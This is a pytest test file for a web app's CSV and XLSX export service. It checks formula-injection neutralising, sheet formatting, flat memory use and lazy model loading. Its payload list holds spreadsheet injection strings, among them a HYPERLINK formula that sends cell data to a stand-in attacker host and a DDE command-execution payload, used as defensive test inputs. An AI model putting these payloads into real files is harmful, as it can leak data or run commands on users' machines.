"""Exports stream from set-based queries, stay flat in memory, and never carry a live formula."""

from __future__ import annotations

import csv
import io
import os
import re
import subprocess
import sys
import tracemalloc

import pytest
from conftest import Browser, add_user
from openpyxl import load_workbook

from diagnose.records.firms import FirmFilter
from diagnose.services import export
from diagnose.storage import connect

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"클릭")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+2",
    "\r=1+2",
    "   =1+2",
    " \t@SUM(A1)",
]
SCORES = '{"leadership": {"score": 50.0}}'


def _fill(db, center_id: int, user_id: int, names: list[str], first: int = 0):
    """Firms with one diagnosis each (half overridden, with the name as the reason) and a
    training record titled like the firm: every text column an export writes."""
    stamp = "2026-01-05T10:00:00+00:00"
    db.execute("INSERT OR IGNORE INTO questionnaire_versions VALUES ('q', 1, 'd', '{}', 'x')")
    with db.conn:
        for n, name in enumerate(names, start=first):
            firm = db.execute(
                "INSERT INTO firms (center_id, name, business_number, region, industry, "
                "employees, revenue_band, contact_name, created_by, created_at, updated_at) "
                "VALUES (?, ?, ?, 'seoul', 'C', 20, 'b', 'n', ?, ?, ?)",
                [center_id, name, f"{center_id}{n:09d}", user_id, stamp, stamp],
            ).lastrowid
            assessment = db.execute(
                "INSERT INTO assessments (firm_id, center_id, consultant_id, questionnaire_id, "
                "questionnaire_version, status, created_at, updated_at, submitted_at) "
                "VALUES (?, ?, ?, 'q', 1, 'submitted', ?, ?, ?)",
                [firm, center_id, user_id, stamp, stamp, stamp],
            ).lastrowid
            prediction = db.execute(
                "INSERT INTO predictions (assessment_id, model_version, track, probabilities, "
                "explanation, scores, readiness, created_at) "
                "VALUES (?, 'm', 'ax', '{}', '{}', ?, 55.5, ?)",
                [assessment, SCORES, stamp],
            ).lastrowid
            if n % 2 == 0:
                db.execute(
                    "INSERT INTO decisions (assessment_id, prediction_id, predicted_track, "
                    "final_track, action, reason, decided_by, decided_at) "
                    "VALUES (?, ?, 'ax', 'beginner', 'override', ?, ?, ?)",
                    [assessment, prediction, name, user_id, stamp],
                )
            db.execute(
                "INSERT INTO training_records (firm_id, center_id, module_id, title, started_on, "
                "hours, trainees, created_at) VALUES (?, ?, 'm', ?, '2026-01-10', 8, 3, ?)",
                [firm, center_id, name, stamp],
            )


@pytest.fixture
def staff(app):
    person = add_user(app, "staff@center-a.example", role="center_staff")
    db = connect(app.config["DATABASE"])
    _fill(db, person["center_id"], person["id"], PAYLOADS)
    other = add_user(app, "staff@center-b.example", center="센터 B", role="center_staff")
    _fill(db, other["center_id"], other["id"], ["다른센터상사"])
    db.conn.close()
    browser = Browser(app)
    browser.login(person["email"])
    return browser


def test_formulas_are_neutralised_the_same_way_in_csv_and_xlsx(staff):
    response = staff.get("/center/export.csv")
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"  # said once
    assert "attachment" in response.headers["Content-Disposition"]
    text = response.data.decode("utf-8")
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text[1:], newline="")))
    header = rows[0]
    csv_names = [r[header.index("기업명")] for r in rows[1:]]
    assert sorted(csv_names) == sorted("'" + p for p in PAYLOADS)  # and no other center's
    xlsx = staff.get("/center/export.xlsx")
    assert xlsx.status_code == 200
    book = load_workbook(io.BytesIO(xlsx.data))
    formulas = [
        c.coordinate
        for sheet in book
        for row in sheet.iter_rows()
        for c in row
        if c.data_type == "f"
    ]
    assert formulas == []
    xlsx_names = [r[1] for r in book["기업"].iter_rows(min_row=2, values_only=True)]

    # the same visible text, in the same order (an XML writer may keep a carriage return
    # as a line feed: both show as a line break)
    def shown(texts):
        return [t.replace("\r", "\n") for t in texts]

    assert shown(xlsx_names) == shown(csv_names)
    reasons = [r[5] for r in book["추천 변경"].iter_rows(min_row=2, values_only=True)]
    assert reasons and all(r.startswith("'") for r in reasons)
    titles = [r[3] for r in book["훈련 이력"].iter_rows(min_row=2, values_only=True)]
    assert sorted(shown(titles)) == sorted(shown("'" + p for p in PAYLOADS))
    # every cell of either file: nothing a spreadsheet would start a formula with
    cells = [v for r in rows[1:] for v in r] + [
        v for sheet in book for r in sheet.iter_rows(values_only=True) for v in r
    ]
    for value in cells:
        if isinstance(value, str):
            assert not value.lstrip(" ").startswith(export.FORMULA_STARTS), value


def test_each_sheet_has_a_frozen_bold_header_a_filter_widths_and_date_cells(staff):
    """What a spreadsheet user sees of the XLSX: the header row frozen and bold, a filter over
    every column and row written, columns wide enough for Korean headers, days as dates."""
    book = load_workbook(io.BytesIO(staff.get("/center/export.xlsx").data))
    assert book.sheetnames == ["기업", "진단", "추천 변경", "훈련 이력"]
    for sheet in book:
        header = next(sheet.iter_rows(max_row=1))
        assert sheet.freeze_panes == "A2", sheet.title
        assert all(c.font.bold for c in header), sheet.title
        rows = sum(1 for _ in sheet.iter_rows(min_row=2))
        assert rows > 0
        last = header[-1].column_letter
        assert sheet.auto_filter.ref == f"A1:{last}{rows + 1}", sheet.title
        # (a writer may give neighbouring columns of one width one <col> range)
        widths = {
            n: d.width for d in sheet.column_dimensions.values() for n in range(d.min, d.max + 1)
        }
        for c in header:  # a Korean character is about two columns wide
            assert widths.get(c.column, 0) >= len(c.value) * 2, c.value
    training = book["훈련 이력"]
    started = [c for c in training[2] if c.column_letter == "E"][0]
    assert started.is_date and started.number_format == "yyyy-mm-dd"
    assert started.value.date().isoformat() == "2026-01-10"


@pytest.mark.parametrize(
    ("value", "kept"),
    [
        ("정상기업", True),
        ("A-1 상사", True),
        ("", True),
        (-3, True),
        (1.5, True),
        ("=1", False),
        (" -1", False),
        ("\t정상", False),
        ("\r\n", False),
        ("@x", False),
    ],
)
def test_safe_cell(value, kept):
    assert (export.safe_cell(value) == value) is kept
    if not kept:
        assert export.safe_cell(value) == "'" + value


def _peak_of_export(app, file_format: str, tmp_path) -> tuple[int, int]:
    db = connect(app.config["DATABASE"])
    questionnaire = app.extensions["questionnaires"].current
    out = (tmp_path / f"x.{file_format}").open("wb")
    tracemalloc.start()
    try:
        with app.test_request_context():
            firms = export.export(db, None, FirmFilter(), file_format, questionnaire, out, 1)
        _now, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
        out.close()
        db.conn.close()
    return firms, peak


@pytest.mark.parametrize("file_format", ["xlsx", "csv"])
def test_memory_stays_flat_as_rows_grow(app, tmp_path, file_format):
    """Four times the firms (and diagnoses, overrides, training rows): about the same peak
    of Python memory while writing, where a whole workbook or table held in memory grows
    with them."""
    person = add_user(app, "staff@center-a.example", role="center_staff")
    db = connect(app.config["DATABASE"])
    _fill(db, person["center_id"], person["id"], [f"기업{n:05d}" for n in range(500)])
    db.conn.close()
    small, small_peak = _peak_of_export(app, file_format, tmp_path)
    db = connect(app.config["DATABASE"])
    _fill(db, person["center_id"], person["id"], [f"기업{n:05d}" for n in range(500, 2000)], 500)
    db.conn.close()
    large, large_peak = _peak_of_export(app, file_format, tmp_path)
    assert (small, large) == (500, 2000)
    assert large_peak < small_peak * 1.5 + 512 * 1024, (small_peak, large_peak)


def test_a_command_starts_without_the_track_model_and_reads_it_on_first_use(tmp_path):
    """`flask export` (or backup, or a queue consumer) never predicts: the app starts without
    importing scikit-learn (1.5 s and about 115 MB of the start); the first diagnosis reads
    the model."""
    code = (
        "import sys\n"
        "from diagnose import create_app\n"
        "app = create_app()\n"
        "print('sklearn' in sys.modules, 'track_model' in app.extensions)\n"
        "model = app.extensions['track_model']\n"
        "print('sklearn' in sys.modules, type(model).__name__,"
        " app.extensions['track_model'] is model)\n"
    )
    env = {
        **os.environ,
        "DIAGNOSE_INSTANCE_PATH": str(tmp_path),
        "DIAGNOSE_DEMO_DATA": "0",
        "DIAGNOSE_SECRET_KEY": "x" * 40,
    }
    result = subprocess.run(
        [sys.executable, "-c", code], env=env, capture_output=True, text=True, check=True
    )
    assert result.stdout.split("\n")[:2] == ["False False", "True TrackModel True"]


class _Sheets:
    """An export's sheets as ``write_xlsx`` reads them, from given rows."""

    def __init__(self, sheets):
        self._sheets = sheets

    def sheets(self):
        return self._sheets


def test_the_xlsx_writer_keeps_every_text_and_type_as_given(tmp_path):
    """Texts a naive XML writer would lose or damage (markup, leading and trailing spaces,
    line breaks, a control character, text that looks like the spreadsheet's own escape,
    a sheet name with a quote) read back as written; numbers, dates and booleans keep their
    types; an empty cell stays empty."""
    from datetime import date

    texts = [
        "<b>A&B</b> \"quoted\" 'single'",
        "  two spaces before",
        "after ",
        "line one\nline two",
        "bell\x07here",
        "_x0041_ stays as typed",
        "한국어 기업명 (주)",
    ]
    columns = [
        ("텍스트", 10, lambda r, _: r["text"]),
        ("수", 6, lambda r, _: r["number"]),
        ("날짜", 12, lambda r, _: r["day"]),
        ("여부", 6, lambda r, _: r["flag"]),
        ("빈칸", 6, lambda r, _: ""),
    ]
    rows = [
        {"text": t, "number": n, "day": date(2026, 1, n + 1), "flag": n % 2 == 0}
        for n, t in enumerate(texts)
    ]
    rows.append({"text": "", "number": 2.5, "day": "", "flag": None})
    path = tmp_path / "x.xlsx"
    with path.open("wb") as out:
        export.write_xlsx(
            _Sheets({"첫 시트": (columns, iter(rows)), "it's & co": (columns[:1], iter([]))}), out
        )
    book = load_workbook(path)
    assert book.sheetnames == ["첫 시트", "it's & co"]
    sheet = book["첫 시트"]
    read = list(sheet.iter_rows(min_row=2, values_only=True))

    # a spreadsheet decodes its escape ``_xHHHH_`` (openpyxl leaves it as it is)
    def decoded(text):
        return re.sub(r"_x([0-9A-F]{4})_", lambda m: chr(int(m.group(1), 16)), text)

    assert [decoded(r[0]) for r in read[:-1]] == texts
    assert [r[1] for r in read] == [*range(len(texts)), 2.5]
    assert [r[2].date() for r in read[:-1]] == [r["day"] for r in rows[:-1]]
    assert [r[3] for r in read[:-1]] == [n % 2 == 0 for n in range(len(texts))]
    assert read[-1][0] is None and read[-1][2] is None and read[-1][3] is None
    assert all(r[4] is None for r in read)
    assert sheet.auto_filter.ref == f"A1:E{len(rows) + 1}"
    empty = book["it's & co"]
    assert [c.value for c in empty[1]] == ["텍스트"] and empty.auto_filter.ref == "A1:A1"
